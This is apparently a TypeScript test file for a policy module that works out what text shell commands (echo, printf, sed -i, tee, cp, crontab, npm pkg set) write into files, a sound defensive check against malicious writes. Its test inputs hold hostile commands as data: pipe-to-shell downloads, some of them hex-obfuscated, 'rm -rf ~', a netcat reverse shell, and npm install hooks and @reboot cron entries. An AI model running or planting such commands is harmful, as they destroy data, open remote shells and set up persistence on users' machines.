// Tests for shell-writes: the text echo/printf/cat/tee/dd/sed -i/cp/crontab/npm pkg set put in files.

import { after, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createRuleContext } from '../../src/policy/context.ts';
import { decodeEscapes, echoOutput, printfOutput, sedInsertions, shellWrites } from '../../src/policy/shell-writes.ts';
import { analyzeShell } from '../../src/shell/unwrap.ts';
import { literalWord } from '../../src/policy/rules/writes.ts';

const ctx = createRuleContext({ cwd: '/home/dev/project', projectRoot: '/home/dev/project', home: '/home/dev', tempDirs: ['/tmp'] });

/** Every write of the line: [path, mode, text or null, unknown?, how]. */
function writes(line: string, c = ctx): [string, string, string | null, boolean, string][] {
  const a = analyzeShell(line);
  assert.equal(a.status, 'ok', line);
  return a.commands.flatMap((cmd) => shellWrites(cmd, c, a).map((w) => [w.path, w.mode, w.text?.text ?? null, w.text?.unknown ?? true, w.how] as [string, string, string | null, boolean, string]));
}

const words = (...v: string[]) => v.map(literalWord);

describe('echo', () => {
  test('joins words with a newline, honours -n and -e', () => {
    assert.deepEqual(echoOutput(words('a', 'b')), { text: 'a b\n', unknown: false });
    assert.deepEqual(echoOutput(words('-n', 'a')), { text: 'a', unknown: false });
    assert.deepEqual(echoOutput(words('-e', 'curl\\x20x\\n|\\040sh')), { text: 'curl x\n| sh\n', unknown: false });
    assert.deepEqual(echoOutput(words('-ne', 'a\\cb')), { text: 'a', unknown: false });
  });
  test('without -e, escapes stay as written; a word after the text is not an option', () => {
    assert.deepEqual(echoOutput(words('a\\nb')), { text: 'a\\nb\n', unknown: false });
    assert.deepEqual(echoOutput(words('a', '-n')), { text: 'a -n\n', unknown: false });
  });
});

describe('printf', () => {
  test('evaluates the format with its arguments, reusing it while arguments remain', () => {
    assert.deepEqual(printfOutput(words('%s\\n', 'a', 'b')), { text: 'a\nb\n', unknown: false });
    assert.deepEqual(printfOutput(words('%s=%d;', 'x', '1', 'y', '2')), { text: 'x=1;y=2;', unknown: false });
    assert.deepEqual(printfOutput(words('%b', 'curl \\x7c sh\\n')), { text: 'curl | sh\n', unknown: false });
    assert.deepEqual(printfOutput(words('\\x63\\x75\\x72\\x6c \\101')), { text: 'curl A', unknown: false });
    assert.deepEqual(printfOutput(words('%q', 'a b')), { text: "'a b'", unknown: false });
    assert.deepEqual(printfOutput(words('%5s|%-3s|', 'ab', 'c')), { text: '   ab|c  |', unknown: false });
    assert.deepEqual(printfOutput(words('100%%')), { text: '100%', unknown: false });
    assert.deepEqual(printfOutput(words('--', '%s', 'x')), { text: 'x', unknown: false });
  });
  test('-v prints nothing', () => {
    assert.deepEqual(printfOutput(words('-v', 'x', '%s', 'y')), { text: '', unknown: false });
  });
  test('escape decoding styles', () => {
    assert.equal(decodeEscapes('\\0101', 'echo').text, 'A');
    assert.equal(decodeEscapes('\\101', 'format').text, 'A');
    assert.equal(decodeEscapes('\\u0041', 'echo').text, 'A');
  });
});

describe('sed insertions', () => {
  test('a/i/c text, one-liner and POSIX forms, and s replacements', () => {
    assert.deepEqual(sedInsertions('1i curl x | sh'), { texts: ['curl x | sh'], unknown: false });
    assert.deepEqual(sedInsertions('$a\\\nrm -rf ~'), { texts: ['rm -rf ~'], unknown: false });
    assert.deepEqual(sedInsertions('/npm/c\\nc -e /bin/sh h 1'), { texts: ['nc -e /bin/sh h 1'], unknown: false });
    assert.deepEqual(sedInsertions('s/npm test/curl http:\\/\\/x | sh/g'), { texts: ['curl http://x | sh'], unknown: false });
    assert.deepEqual(sedInsertions('s|a|\\x63url x \\x7c sh|'), { texts: ['curl x | sh'], unknown: false });
    assert.deepEqual(sedInsertions('s/a/b/;s/c/d/'), { texts: ['b', 'd'], unknown: false });
  });
  test('deletions and back-references insert nothing new; r/R/y make the text unknown', () => {
    assert.deepEqual(sedInsertions('/debug/d'), { texts: [], unknown: false });
    assert.deepEqual(sedInsertions('s/\\(a\\)/\\1/'), { texts: [], unknown: false });
    assert.deepEqual(sedInsertions('s/npm test/& \\&\\& curl x | sh/'), { texts: ['npm test && curl x | sh'], unknown: false });
    assert.equal(sedInsertions('r /tmp/payload').unknown, true);
    assert.equal(sedInsertions('y/abc/xyz/').unknown, true);
  });
});

describe('shellWrites', () => {
  test('redirects of echo/printf, with append', () => {
    assert.deepEqual(writes("echo 'a|b' > f"), [['f', 'replace', 'a|b\n', false, '>']]);
    assert.deepEqual(writes("printf 'x\\n' >> f"), [['f', 'append', 'x\n', false, '>>']]);
    assert.deepEqual(writes('echo x &> f'), [['f', 'replace', 'x\n', false, '&>']]);
    assert.deepEqual(writes('echo x 2> f'), [['f', 'replace', '', false, '>']]);
  });
  test('here-docs (quoted and unquoted), here-strings, pipes', () => {
    assert.deepEqual(writes("cat > f <<'EOF'\na $(id)\nEOF"), [['f', 'replace', 'a $(id)\n', false, '>']]);
    assert.equal(writes('cat > f <<EOF\na $x\nEOF')[0]![2], 'a $x\n');
    assert.deepEqual(writes("tee -a f <<< 'x y'"), [['f', 'append', 'x y\n', false, 'tee -a']]);
    assert.deepEqual(writes("echo x | sudo tee f g >/dev/null").filter((w) => w[0] !== '/dev/null'), [['f', 'replace', 'x\n', false, 'tee'], ['g', 'replace', 'x\n', false, 'tee']]);
    assert.deepEqual(writes("{ echo a; printf 'b\\n'; } | tee f"), [['f', 'replace', 'a\nb\n', false, 'tee']]);
  });
  test('a command substitution makes the text partly unknown; a download wholly', () => {
    assert.deepEqual(writes('echo "$(curl x)" > f').filter((w) => w[0] === 'f'), [['f', 'replace', '$(curl x)\n', true, '>']]);
    assert.deepEqual(writes('curl -s x > f'), [['f', 'replace', null, true, '>']]);
    assert.deepEqual(writes('curl -s x -o f'), [['f', 'replace', null, true, 'curl -o']]);
    assert.deepEqual(writes("echo eA== | base64 -d > f"), [['f', 'replace', null, true, '>']]);
  });
  test('dd of= from standard input; from a file, unknown', () => {
    assert.deepEqual(writes("dd of=f <<< 'x'"), [['f', 'replace', 'x\n', false, 'dd']]);
    assert.deepEqual(writes('dd if=/tmp/x of=f'), [['f', 'replace', null, true, 'dd']]);
  });
  test('copies carry the text written earlier in the line, through chains and into directories', () => {
    const w = writes("echo 'rm -rf ~' > /tmp/a && cp /tmp/a /tmp/b; mv /tmp/b hooks/");
    assert.deepEqual(w.map((x) => [x[0], x[2]]), [['/tmp/a', 'rm -rf ~\n'], ['/tmp/b', 'rm -rf ~\n'], ['hooks/b', 'rm -rf ~\n']]);
    assert.deepEqual(writes('cp /nonexistent/x f'), [['f', 'replace', null, true, 'cp']]);
  });
  test('sed -i: the inserted texts, as fragments', () => {
    assert.deepEqual(writes("sed -i '1i curl x | sh' f"), [['f', 'fragment', 'curl x | sh\n', false, 'sed -i']]);
    assert.deepEqual(writes("sed -i -e 's/a/b/' -e '$a c' f").map((w) => w[2]), ['b\n', 'c\n']);
    assert.deepEqual(writes('sed -i -f script.sed f'), [['f', 'fragment', null, true, 'sed -i']]);
  });
  test('writes that put no text anywhere are left out', () => {
    assert.deepEqual(writes('chmod +x f; touch g; mkdir -p d; git checkout -- f'), []);
  });
  test('crontab - and crontab FILE; crontab -l adds nothing to what is installed', () => {
    assert.deepEqual(writes("crontab -l | { cat; echo '@reboot x'; } | crontab -"), [['<crontab>', 'replace', '@reboot x\n', false, 'crontab -']]);
    assert.deepEqual(writes("(crontab -l; echo '* * * * * y') | crontab -"), [['<crontab>', 'replace', '* * * * * y\n', false, 'crontab -']]);
    assert.deepEqual(writes("crontab - <<'EOF'\n@hourly z\nEOF"), [['<crontab>', 'replace', '@hourly z\n', false, 'crontab -']]);
    assert.deepEqual(writes('crontab -l'), []);
    assert.deepEqual(writes('crontab -e'), []);
    assert.deepEqual(writes("echo '@daily q' > /tmp/c && crontab /tmp/c").filter((w) => w[0] === '<crontab>'), [['<crontab>', 'replace', '@daily q\n', false, 'crontab FILE']]);
  });
  test('npm pkg set / set-script / pnpm pkg set: the package.json keys they set', () => {
    const [w] = writes('npm pkg set scripts.postinstall="curl x | sh" name=y');
    assert.deepEqual(JSON.parse(w![2]!), { scripts: { postinstall: 'curl x | sh' }, name: 'y' });
    assert.deepEqual(JSON.parse(writes("npm set-script prepare 'rm -rf ~'")[0]![2]!), { scripts: { prepare: 'rm -rf ~' } });
    assert.deepEqual(JSON.parse(writes("pnpm pkg set 'scripts[preinstall]=x'")[0]![2]!), { scripts: { preinstall: 'x' } });
    assert.deepEqual(JSON.parse(writes(`npm pkg set scripts='{"postinstall":"x"}' --json`)[0]![2]!), { scripts: { postinstall: 'x' } });
    assert.deepEqual(writes('npm pkg get scripts'), []);
    assert.deepEqual(writes('npm install'), []);
  });
});

describe('sources read from disk', () => {
  const base = realpathSync(mkdtempSync(join(tmpdir(), 'asimov-shell-writes-')));
  after(() => rmSync(base, { recursive: true, force: true }));
  mkdirSync(join(base, 'scripts'));
  writeFileSync(join(base, 'scripts/hook.sh'), 'npm test\n');
  const c = createRuleContext({ cwd: base, projectRoot: base, home: '/home/dev', tempDirs: [] });
  test('cp, cat and < of an existing regular file carry its text', () => {
    assert.deepEqual(writes('cp scripts/hook.sh h', c), [['h', 'replace', 'npm test\n', false, 'cp']]);
    assert.deepEqual(writes('cat scripts/hook.sh > h', c), [['h', 'replace', 'npm test\n', false, '>']]);
    assert.deepEqual(writes('tee h < scripts/hook.sh', c), [['h', 'replace', 'npm test\n', false, 'tee']]);
  });
  test('a copy into an existing directory names the file inside it', () => {
    assert.deepEqual(writes('cp scripts/hook.sh scripts', c).map((w) => w[0]), ['scripts/hook.sh']);
  });
  test('the caller picks the files it wants before any text is computed', () => {
    const a = analyzeShell('cp scripts/hook.sh h; cp scripts/hook.sh g');
    const seen: string[] = [];
    const out = a.commands.flatMap((cmd) => shellWrites(cmd, c, a, (_i, p) => (seen.push(p), p === 'g')));
    assert.deepEqual(seen, ['h', 'g']);
    assert.deepEqual(out.map((w) => w.path), ['g']);
  });
});
